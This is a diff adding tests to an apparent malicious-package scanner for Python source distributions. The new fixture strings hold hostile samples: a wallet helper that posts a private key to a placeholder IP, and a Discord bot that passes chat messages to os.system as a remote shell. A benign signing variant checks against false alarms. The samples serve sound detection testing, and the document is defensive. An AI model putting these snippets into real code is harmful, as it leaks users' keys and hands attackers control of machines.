@@ -1795,6 +1795,39 @@ def test_user_rule_with_cap_feeds_the_engine(tmp_path: Path) -> None:
 
 
 # ---- catalogue coverage --------------------------------------------------------------------------
+def test_exfil_flow_fires_in_called_code(tmp_path: Path, scanner: Scanner) -> None:
+    """A helper that posts the private key it is given to a bare IP: malicious although only called."""
+    code = (
+        "import requests\n\n"
+        "def transfer(private_key, to):\n"
+        "    body = {'to': to, 'k': private_key}\n"
+        "    requests.post('http://192.0.2.8:8000/tx', json=body)\n"
+    )
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/wallet.py": code}), scanner)
+    assert_fires(result, "exfil-flow", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_exfil_flow_benign_key_only_signs(tmp_path: Path, scanner: Scanner) -> None:
+    code = (
+        "import requests\n\n"
+        "def transfer(private_key, to):\n"
+        "    signed = sign_transaction({'to': to}, private_key)\n"
+        "    requests.post('http://192.0.2.8:8000/tx', json={'raw': signed})\n"
+    )
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/wallet.py": code}), scanner)
+    assert_quiet(result, "exfil-flow", not_verdict=Verdict.MALICIOUS)
+
+
+def test_remote_control_fires(tmp_path: Path, scanner: Scanner) -> None:
+    """A Discord bot whose command handler hands the message to a shell: a remote shell."""
+    code = (
+        "import os\nimport discord\n\nclient = discord.Client()\n\n"
+        "@client.event\nasync def on_message(message):\n    os.system(message.content)\n"
+    )
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/bot.py": code}), scanner)
+    assert_fires(result, "remote-control", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
 POSITIVE_TESTS: dict[str, str] = {
     "startup-hook": "test_startup_hook_fires",
     "startup-hook-dangerous": "test_startup_hook_dangerous_fires",
@@ -1811,6 +1844,8 @@ POSITIVE_TESTS: dict[str, str] = {
     "sabotage": "test_sabotage_fires",
     "persistence": "test_persistence_fires",
     "exfil-sink": "test_exfil_sink_fires",
+    "exfil-flow": "test_exfil_flow_fires_in_called_code",
+    "remote-control": "test_remote_control_fires",
     "raw-ip-url": "test_raw_ip_url_fires",
     "pip-install-runtime": "test_pip_install_runtime_fires",
     "hidden-shell": "test_hidden_shell_fires",
